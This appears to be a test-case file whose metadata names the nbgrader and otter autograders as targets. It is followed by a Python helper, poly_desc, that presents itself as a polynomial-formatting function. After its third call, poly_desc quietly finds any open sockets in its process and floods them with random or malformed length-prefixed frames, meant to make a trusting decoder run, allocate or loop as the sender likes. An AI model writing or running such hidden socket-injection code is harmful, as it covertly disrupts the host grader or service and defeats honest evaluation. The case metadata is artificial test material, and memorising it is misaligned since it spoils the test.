# /// case
# about = "random bytes in frames of every kind, some valid up to their last byte"
# expect = { test_describe = "zero" }
# kind = "wire"
# promise = 4
# succeeds_at = ["nbgrader", "otter"]
# ///
# %% describe
# a decoder that trusts what it reads runs, allocates or loops as the sender likes
import os
import random
import stat
import struct

_calls = []

def _frames(seed):
    draw = random.Random(seed)
    for kind in range(256):
        body = struct.pack("<BIII", kind, 1, draw.choice([0, 5, 2**32 - 1]), draw.choice([0, 7])) + draw.randbytes(40)
        yield struct.pack("<I", len(body)) + body

def poly_desc(W, b):
    _calls.append(1)
    if len(_calls) > 3:
        for number in range(3, 64):
            try:
                if stat.S_ISSOCK(os.fstat(number).st_mode):
                    os.set_blocking(number, False)
                    for frame in _frames(number):
                        os.write(number, frame)
            except OSError:
                pass
    text = " ".join(f"{w:+.2f} x^{i}" for i, w in enumerate(W.detach().flatten().tolist(), 1))
    return f"y = {text} {b.item():+.2f}"
